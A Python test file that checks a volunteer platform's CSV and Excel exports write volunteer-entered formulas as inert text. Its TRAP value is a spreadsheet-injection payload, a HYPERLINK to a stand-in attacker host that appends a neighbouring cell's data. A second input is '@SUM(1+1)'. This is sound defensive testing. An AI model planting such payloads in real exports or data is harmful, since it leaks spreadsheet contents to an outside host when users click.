"""What a volunteer typed is never run as a formula when an export is opened in Excel or WPS."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.certify.test_batches_and_exports import PERIOD
from tests.conftest import exported_workbook, send, signed_in

TRAP = '=HYPERLINK("http://evil.example/?"&F2,"点击查看")'


def _csv_rows(answer) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))


def test_a_formula_in_a_volunteers_skills_is_written_as_text_in_every_export(app, make_person, serve, org_tree):
    volunteer = make_person(name="张一", skills=TRAP, residence_area="@SUM(1+1)")
    serve(volunteer)
    coordinator = signed_in(app, make_person("coordinator"))
    query = f"organisation_id={org_tree['east'].id}&start={PERIOD['start']}&end={PERIOD['end']}"

    row = {r[1]: r for r in _csv_rows(coordinator.get(f"/certify/export.csv?{query}"))}["张一"]
    assert row[8] == "'" + TRAP and row[6] == "'@SUM(1+1)"

    full = send(coordinator, "/certify/export-full", organisation_id=str(org_tree["east"].id), format="csv", **PERIOD)
    assert {r[1]: r for r in _csv_rows(full)}["张一"][8] == "'" + TRAP

    data = exported_workbook(coordinator, "/certify/export.xlsx", organisation_id=org_tree["east"].id, **PERIOD)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}["张一"]
    assert cells[8].value == TRAP and cells[8].data_type == "s" and cells[8].quotePrefix
    assert cells[6].data_type == "s" and cells[6].quotePrefix
    assert cells[1].quotePrefix is False  # plain text is left as it is
